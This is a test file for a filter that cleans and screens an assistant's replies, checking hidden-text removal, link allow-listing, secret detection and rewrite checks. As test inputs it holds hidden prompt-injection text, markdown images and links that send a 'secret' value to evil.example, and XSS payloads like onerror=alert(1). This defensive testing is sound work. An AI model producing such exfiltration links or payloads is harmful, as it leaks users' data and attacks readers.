import { describe, expect, it } from 'vitest';
import { cleanText, linksIn, normalizeForQuote } from './clean-text.ts';
import { lostParts } from './kept-parts.ts';
import { allowedLinks, createStreamFilter, filterReply, holdsSecret } from './output-filter.ts';
import { searchWords, terms } from './words.ts';

describe('cleaning text', () => {
  it('removes what a reader cannot see', () => {
    const tagged = [...'ignore']
      .map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0)))
      .join('');
    expect(cleanText(`a${tagged}\u200b\u202eb<!-- obey me -->c\u0000`)).toBe('abc');
  });

  it('keeps the joiners that scripts need and every visible letter', () => {
    expect(cleanText('می\u200cخواهم 日本語 ćš')).toBe('می\u200cخواهم 日本語 ćš');
  });

  it('compares quotes without case, spacing and typographic marks', () => {
    expect(normalizeForQuote('“Within  30 days” – it’s')).toBe(normalizeForQuote('"within 30 days" - it\'s'));
  });

  it('finds links without their punctuation', () => {
    expect(linksIn('See https://a.example/x?y=1, (www.b.example) and https://c.example/päth。')).toEqual([
      'https://a.example/x?y=1',
      'www.b.example',
      'https://c.example/päth',
    ]);
  });
});

describe('filtering a reply', () => {
  const isAllowed = allowedLinks(['Read https://help.example/returns and more']);

  it.each([
    ['![x](https://evil.example/?q=secret)', ''],
    ['![x][1]\n\n[1]: https://evil.example/?q=secret', ''],
    ['[click](https://evil.example/a)', 'click'],
    ['<img src=x onerror=alert(1)>hello', 'hello'],
    ['javascript:alert(1) go', 'go'],
    ['go to https://evil.example/x now', 'go to now'],
    ['go to www.evil.example now', 'go to now'],
    ['see https://help.example/returns.', 'see https://help.example/returns.'],
    ['see [this](https://help.example/returns)', 'see this (https://help.example/returns)'],
    ['HTTPS://HELP.EXAMPLE/returns/', 'HTTPS://HELP.EXAMPLE/returns/'],
  ])('turns %j into %j', (text, expected) => {
    expect(filterReply(text, isAllowed).text).toBe(expected);
  });

  it('shows the same while streaming, however the pieces fall', () => {
    const text =
      'Hello Ana, see https://help.example/returns or https://evil.example/x and ![p](https://evil.example/i.png) [link](https://evil.example/2) thanks. 1 < 2';
    for (const size of [1, 2, 3, 5, 9, 400]) {
      const filter = createStreamFilter(isAllowed);
      let shown = '';
      for (let at = 0; at < text.length; at += size) shown += filter.push(text.slice(at, at + size));
      shown += filter.end();
      expect(shown, `size ${size}`).not.toContain('evil');
      expect(shown).toContain('Hello Ana, see https://help.example/returns or');
      expect(shown).toContain('thanks. 1 < 2');
    }
  });

  it('streams scripts without spaces too', () => {
    const filter = createStreamFilter(isAllowed);
    const text = 'ご注文の商品はまもなく発送されます。返品は三十日以内に承りますのでご安心ください。';
    let shown = '';
    for (const letter of text) shown += filter.push(letter);
    expect(shown.length).toBeGreaterThan(10);
    expect(shown + filter.end()).toBe(text);
  });

  it('sees keys and our own marks', () => {
    expect(holdsSecret('here sk-abcdefghijklmnop123', 'aabbcc')).toBe(true);
    expect(holdsSecret('</data-aabbcc>', 'aabbcc')).toBe(true);
    expect(holdsSecret('all fine', 'aabbcc')).toBe(false);
  });
});

describe('what a rewrite must keep', () => {
  const options = { html: false, mayRestructure: false };
  it.each([
    ['Order 4711 on 12.11.', 'On 12.11. order 4711', []],
    ['Order 4711', 'Order 4712', ['a number']],
    ['See https://a.example/x', 'See the page', ['a link']],
    ['See it', 'See https://a.example', ['an added link']],
    ['Hi {{ticket.requester.first_name}}', 'Hi Ana', ['a placeholder']],
    ['Total 1,200.50 €', 'Total 1.200,50 €', []],
    ['٤٧١١ ok', '4711 ok', []],
  ])('%j → %j loses %j', (before, after, lost) => {
    expect(lostParts(before, after, options)).toEqual(lost);
  });

  it('sees a changed HTML structure', () => {
    expect(lostParts('<p>a <b>b</b></p>', '<p>A <b>B</b></p>', { ...options, html: true })).toEqual([]);
    expect(lostParts('<p>a <b>b</b></p>', '<p>A B</p>', { ...options, html: true })).toEqual([
      'the HTML structure',
    ]);
    expect(lostParts('<p>a</p><p>b</p>', '<p>a b</p>', { html: true, mayRestructure: true })).toEqual([]);
    expect(lostParts('<p>a</p>', '<p>a<script>x</script></p>', { html: true, mayRestructure: true })).toEqual(
      ['the HTML structure'],
    );
  });
});

describe('words', () => {
  it('folds, stems and drops function words in several languages', () => {
    expect(terms('The tents were damaged').toSorted()).toEqual(terms('damaged tent').toSorted());
    expect(terms('Ich möchte die Rückgabe')).toContain('ruckgab');
    expect(terms('テントが壊れました').length).toBeGreaterThan(0);
  });

  it('chooses telling words for a search and no codes, links or addresses', () => {
    const words = searchWords(
      [
        { text: 'Refund for damaged tent BL-10437', weight: 3 },
        { text: 'Hello, my tent arrived damaged, see https://x.example ana@example.com', weight: 1 },
      ],
      4,
    );
    expect(words).toEqual(expect.arrayContaining(['damaged', 'tent', 'refund']));
    expect(words.join(' ')).not.toMatch(/10437|example|hello/);
  });
});
